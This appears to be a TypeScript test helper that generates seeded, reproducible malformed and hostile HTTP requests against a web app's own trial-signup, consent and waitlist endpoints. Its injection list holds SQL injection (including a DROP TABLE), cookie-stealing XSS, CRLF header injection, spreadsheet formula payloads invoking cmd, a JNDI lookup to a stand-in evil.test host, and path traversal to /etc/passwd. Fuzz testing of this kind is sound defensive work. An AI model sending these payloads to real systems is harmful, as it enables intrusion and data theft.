/**
 * A seeded generator of malformed and hostile HTTP requests (issue 7): wrong types, nulls,
 * nested objects, huge strings and bodies, control characters, invalid UTF-8, SQL, HTML and
 * CRLF injection strings in every field, wrong methods and content types, truncated JSON and
 * very long URLs, against every API endpoint and a sample of page routes. The same seed gives
 * the same requests, so a failure can be replayed.
 */

export interface HostileRequest {
  method: string
  path: string
  headers: Record<string, string>
  body?: Uint8Array
  /** What was done to it, for the failure message. */
  label: string
}

/** mulberry32: small, fast and good enough to pick cases reproducibly. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

export const INJECTION_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE licenses; --",
  '1; select pg_sleep(10)--',
  '" OR ""="',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=alert(1)>',
  'x\r\nBcc: victim@evil.test',
  'x\r\nSet-Cookie: session=stolen',
  '%0d%0aLocation:%20http://evil.test',
  '=HYPERLINK("http://evil.test","click")',
  '+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '\u0000',
  '\u0007\u001b[31m',
  'tab\there',
  '\u202egnp.exe',
  '\ud800',
  '\uffff\ufffe',
  'Zalgo z̷̛͖a̸l̵g̶o̷',
  '🦄'.repeat(40),
  '__proto__',
  'constructor',
  ' ',
  '',
]

const WEIRD_VALUES: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  [],
  ['a', 'b'],
  {},
  { nested: { deeper: { value: 'x' } } },
  { $gt: '' },
  'a'.repeat(101),
  'a'.repeat(5_000),
  '1',
  'true',
  'null',
]

const FIELDS = ['first_name', 'last_name', 'email', 'model', 'source', 'website', 'form_elapsed_ms']

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/problem+json',
  'application/json; charset=utf-16',
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  '',
  'json',
  '*/*',
]

const METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']

export const PAGE_PATHS = [
  '/',
  '/terms',
  '/legal/terms',
  '/privacy-policy',
  '/cookie-policy',
  '/thank-you',
  '/thank-you?model=basic',
  '/scheduling-thank-you',
  '/sitemap.xml',
  '/robots.txt',
  '/lnf/chart.png',
  '/custom-uploads/screenshots/basic/1.png',
  '/assets/index.js',
  '/favicon.ico',
]

const encoder = new TextEncoder()
/** Percent-encodes; a lone surrogate becomes its (invalid) UTF-8 bytes, as a raw client sends them. */
const enc = (text: string) => {
  try {
    return encodeURIComponent(text)
  } catch {
    return '%ED%A0%80'
  }
}
const bytes = (text: string) => encoder.encode(text)

export function hostileRequests(seed: number, count: number): HostileRequest[] {
  const random = seededRandom(seed)
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!
  const chance = (p: number) => random() < p
  const injection = () => pick(INJECTION_STRINGS)
  const anyValue = (): unknown => (chance(0.5) ? injection() : pick(WEIRD_VALUES))

  const validBody = (): Record<string, unknown> => ({
    first_name: 'Ada',
    last_name: 'Lovelace',
    email: `fuzz.${Math.floor(random() * 1e9)}@example.com`,
    model: chance(0.5) ? 'basic' : 'advanced',
    source: 'landing-trial-form',
  })

  /** A trial body with one or more fields broken, or a body that is not a trial at all. */
  const trialBody = (): { body: Uint8Array; label: string } => {
    const shape = pick([
      'one-field',
      'one-field',
      'one-field',
      'every-field',
      'missing',
      'extra',
      'truncated',
      'not-json',
      'invalid-utf8',
      'huge',
      'deep',
      'array',
      'scalar',
      'empty',
      'injection-everywhere',
      'valid',
    ] as const)
    const body = validBody()
    switch (shape) {
      case 'one-field': {
        const field = pick(FIELDS)
        body[field] = anyValue()
        return {
          body: bytes(JSON.stringify(body)),
          label: `${field}=${JSON.stringify(body[field])?.slice(0, 40)}`,
        }
      }
      case 'every-field':
        for (const f of FIELDS) body[f] = anyValue()
        return { body: bytes(JSON.stringify(body)), label: 'every field hostile' }
      case 'injection-everywhere': {
        const s = injection()
        for (const f of ['first_name', 'last_name', 'source']) body[f] = s
        body.email = `${s}@example.com`
        return { body: bytes(JSON.stringify(body)), label: `injection ${JSON.stringify(s)}` }
      }
      case 'missing':
        delete body[pick(FIELDS.slice(0, 4))]
        return { body: bytes(JSON.stringify(body)), label: 'a required field missing' }
      case 'extra':
        body[pick(['id', 'license_id', 'is_admin', 'constructor', 'waitlist'])] = anyValue()
        return { body: bytes(JSON.stringify(body)), label: 'an unknown field' }
      case 'truncated': {
        const text = JSON.stringify(body)
        return {
          body: bytes(text.slice(0, Math.floor(random() * (text.length - 1)))),
          label: 'truncated JSON',
        }
      }
      case 'not-json':
        return {
          body: bytes(
            pick([
              "{'single': 'quotes'}",
              'first_name=Ada&email=x',
              'undefined',
              'NaN',
              '{"a":1,}',
              '\u0000\u0001',
              '{"__proto__":{"admin":true},"first_name":"A"}',
              '{"first_name":"A","first_name":{"x":1}}',
            ]),
          ),
          label: 'not JSON',
        }
      case 'invalid-utf8': {
        const text = bytes(JSON.stringify(body))
        const at = Math.floor(random() * text.length)
        const bad = pick([
          [0xff],
          [0xc3, 0x28],
          [0xe2, 0x82],
          [0xed, 0xa0, 0x80],
          [0xf8, 0x88, 0x80, 0x80, 0x80],
        ])
        return {
          body: new Uint8Array([...text.slice(0, at), ...bad, ...text.slice(at)]),
          label: 'invalid UTF-8',
        }
      }
      case 'huge': {
        const size = pick([16_385, 20_000, 100_000, 1_000_000])
        body.first_name = 'x'.repeat(size)
        return { body: bytes(JSON.stringify(body)), label: `huge body ${size}` }
      }
      case 'deep': {
        const depth = pick([50, 500, 5_000])
        return {
          body: bytes('{"first_name":' + '['.repeat(depth) + ']'.repeat(depth) + '}'),
          label: `nested ${depth}`,
        }
      }
      case 'array':
        return { body: bytes(JSON.stringify([body])), label: 'an array' }
      case 'scalar':
        return { body: bytes(pick(['null', '42', '"string"', 'true'])), label: 'a scalar' }
      case 'empty':
        return { body: new Uint8Array(), label: 'empty body' }
      case 'valid':
        return { body: bytes(JSON.stringify(body)), label: 'valid' }
    }
  }

  const longPath = () =>
    '/' +
    pick(['api/trial-submissions/', 'lnf/', '', 'custom-uploads/']) +
    'a'.repeat(pick([2_000, 8_000, 30_000]))

  const hex = (n: number) =>
    Array.from({ length: n }, () => Math.floor(random() * 16).toString(16)).join('')
  const uuidish = () =>
    pick([
      `${hex(8)}-${hex(4)}-4${hex(3)}-8${hex(3)}-${hex(12)}`,
      '00000000-0000-0000-0000-000000000000',
      'not-a-uuid',
      enc("1' or '1'='1"),
      '%00',
      '..%2f..%2fetc',
      'a'.repeat(300),
      enc('<script>'),
      '%E0%A4%A',
    ])

  /** A consent record (POST /api/consents) with a field broken, or not a record at all. */
  const consentBody = (): { body: Uint8Array; label: string } => {
    const record: Record<string, unknown> = {
      id: `c-${hex(16)}`,
      categories: { functional: true, media: false, marketing: chance(0.5) },
      policy_version: '2025-08-01',
      decided_at: new Date(1_790_000_000_000 + Math.floor(random() * 1e9)).toISOString(),
    }
    if (chance(0.3)) return trialBody()
    const field = pick([
      'id',
      'categories',
      'policy_version',
      'decided_at',
      'categories.marketing',
      'none',
    ] as const)
    if (field === 'categories.marketing')
      (record.categories as Record<string, unknown>).marketing = anyValue()
    else if (field === 'decided_at')
      record.decided_at = pick([
        '2026-02-30T00:00:00Z',
        '+275760-09-13T00:00:00.000Z',
        'yesterday',
        '1970-01-01',
        injection(),
        0,
      ])
    else if (field !== 'none') record[field] = anyValue()
    return {
      body: bytes(JSON.stringify(record)),
      label: `consent ${field}=${JSON.stringify(field === 'none' ? 'valid' : record[field.split('.')[0]!])?.slice(0, 40)}`,
    }
  }

  const requests: HostileRequest[] = []
  for (let i = 0; i < count; i++) {
    const target = pick([
      'submit',
      'submit',
      'submit',
      'submit',
      'waitlist',
      'waitlist',
      'consent',
      'counts',
      'readyz',
      'api-unknown',
      'page',
      'page',
      'long-url',
    ] as const)
    const headers: Record<string, string> = {}
    let method = 'GET'
    let path = '/'
    let body: Uint8Array | undefined
    let label = target
    if (target === 'consent') {
      const made = consentBody()
      body = made.body
      method = chance(0.85) ? 'POST' : pick(METHODS)
      path = '/api/consents'
      headers['content-type'] = chance(0.8) ? 'application/json' : pick(CONTENT_TYPES)
      label += `: ${made.label}, ${method} ${headers['content-type'] || 'no content type'}`
    } else if (target === 'submit' || target === 'waitlist') {
      const made = target === 'submit' ? trialBody() : waitlistBody()
      body = made.body
      label += `: ${made.label}`
      method = chance(0.85) ? (target === 'submit' ? 'POST' : 'PATCH') : pick(METHODS)
      path =
        target === 'submit'
          ? '/api/trial-submissions'
          : `/api/trial-submissions/${uuidish()}/waitlist`
      headers['content-type'] = chance(0.75) ? 'application/json' : pick(CONTENT_TYPES)
      label += `, ${method} ${headers['content-type'] || 'no content type'}`
      if (target === 'waitlist') {
        headers.authorization = pick([
          `Bearer ${'A'.repeat(43)}`,
          'Bearer ',
          'Bearer a.b.c',
          `Bearer ${'x'.repeat(5_000)}`,
          'Basic YWRtaW46YWRtaW4=',
          "Bearer ' OR 1=1 --",
          'Bearer %00',
          '',
        ])
      }
    } else if (target === 'counts' || target === 'readyz') {
      method = chance(0.7) ? 'GET' : pick(METHODS)
      path = target === 'counts' ? '/api/license-counts' : '/readyz'
      if (chance(0.3)) path += `?${enc(injection())}=${enc(injection())}`
      if (method !== 'GET' && method !== 'HEAD' && chance(0.5)) {
        body = trialBody().body
        headers['content-type'] = pick(CONTENT_TYPES)
      }
    } else if (target === 'api-unknown') {
      method = pick(METHODS)
      path = pick([
        '/api',
        '/api/',
        '/api/admin',
        '/api/licenses',
        '/api/trial-submissions/x',
        '/api/../etc/passwd',
        `/api/${enc(injection())}`,
      ])
    } else if (target === 'page') {
      method = chance(0.7) ? 'GET' : pick(METHODS)
      path = pick(PAGE_PATHS)
      if (chance(0.4))
        path += `${path.includes('?') ? '&' : '?'}${pick(['model', 'event_url', 'q', 'invitee'])}=${enc(injection())}`
      if (chance(0.2)) path = path.replace(/\/[^/?]*$/, `/${enc(injection())}`)
    } else {
      method = pick(['GET', 'POST'])
      path = longPath()
    }
    if (chance(0.15))
      headers['x-forwarded-for'] = pick([
        '127.0.0.1',
        '::1, 10.0.0.1',
        "' OR 1=1",
        'x'.repeat(500),
        '',
      ])
    if (chance(0.1))
      headers['user-agent'] = pick(['', 'x'.repeat(4_000), '<script>', "sqlmap/1.0' OR 1=1"])
    if (chance(0.1))
      headers['accept-encoding'] = pick(['br;q=x', 'gzip;q=-1', '*', 'identity;q=0, *;q=0'])
    if (method === 'GET' || method === 'HEAD') body = undefined
    requests.push({
      method,
      path,
      headers,
      body,
      label: `${label} -> ${method} ${path.slice(0, 80)}`,
    })
  }
  return requests

  function waitlistBody(): { body: Uint8Array; label: string } {
    if (chance(0.3)) return trialBody()
    const value = chance(0.3) ? pick([true, false]) : anyValue()
    return {
      body: bytes(JSON.stringify({ waitlist: value })),
      label: `waitlist=${JSON.stringify(value)?.slice(0, 40)}`,
    }
  }
}

/** The status class of an answer, for the counts the suite prints. */
export function statusClass(status: number): string {
  return `${Math.floor(status / 100)}xx`
}
